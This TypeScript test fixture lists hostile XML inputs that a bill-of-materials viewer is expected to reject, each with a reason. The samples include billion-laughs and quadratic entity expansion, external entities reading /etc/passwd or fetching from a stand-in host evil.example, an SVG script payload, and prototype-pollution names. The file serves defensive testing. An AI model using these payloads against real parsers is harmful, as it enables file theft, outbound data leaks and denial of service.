/** XML that is no harmless bill of materials, with the reason why it is not displayed. */
export type HostileXml = { readonly name: string; readonly xml: string; readonly reason: string };

const bom = (rows: string): string => `<BillOfMaterials><BOMTable>${rows}</BOMTable></BillOfMaterials>`;
const row = '<BOM><Item>A</Item><ParentItem/><BOMQty>1</BOMQty></BOM>';

const declaration = 'The file has a document type declaration.';
const malformed = 'The file is not well-formed XML.';
const none = 'The file holds no bill of materials.';
const tooDeep = 'The file is nested too deeply to be shown.';

const laughs = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
);

const refused = (reason: string, files: Record<string, string>): HostileXml[] =>
  Object.entries(files).map(([name, xml]) => ({ name, xml, reason }));

export const hostileXml: readonly HostileXml[] = [
  ...refused(declaration, {
    'a billion laughs': `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs.join('')}]>${bom('<BOM><Item>&l9;</Item><BOMQty>1</BOMQty></BOM>')}`,
    'quadratic growth': `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(28_000)}">]>${bom('&a;'.repeat(9000))}`,
    'an external entity': `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${bom('<BOM><Item>&x;</Item><BOMQty>1</BOMQty></BOM>')}`,
    'an entity from elsewhere': `<!DOCTYPE r [<!ENTITY x SYSTEM "https://evil.example/">]>${bom(row)}`,
    'a parameter entity': `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/d">%p;]>${bom(row)}`,
    'two declarations': `<!DOCTYPE a><!DOCTYPE b [<!ENTITY x "y">]>${bom(row)}`,
    'a declaration in small letters': `<!doctype r [<!entity x "y">]>${bom(row)}`,
    'a declaration without entities': `<!DOCTYPE r SYSTEM "https://evil.example/r.dtd">${bom(row)}`,
    'a web page': '<!DOCTYPE html><html><body>Sign in</body></html>',
  }),
  ...refused(malformed, {
    'a file cut off': bom(row).slice(0, -12),
    'crossed elements': '<a><b></a></b>',
    JSON: '{"Item":"A"}',
    text: 'hello',
    nothing: '',
    'a NUL': `\0${bom(row)}`,
    'attributes without quotes': '<a b=c></a>',
    'UTF-16 read as UTF-8': '\ufffd\ufffd<\0a\0/\0>\0',
  }),
  ...refused(none, {
    'another document': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    'a table without its columns': bom('<BOM><Item>A</Item></BOM>'),
  }),
  ...refused(tooDeep, {
    'five thousand levels': `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`,
    'a million levels that never end': '<a>'.repeat(1_000_000),
  }),
  ...refused(none, {
    'a constructor': '<constructor><prototype>1</prototype></constructor>',
    'a prototype': '<__proto__><polluted>1</polluted></__proto__>',
  }),
];

export const buildTooLargeXml = (): string => bom(row + ' '.repeat(20 * 1024 * 1024));
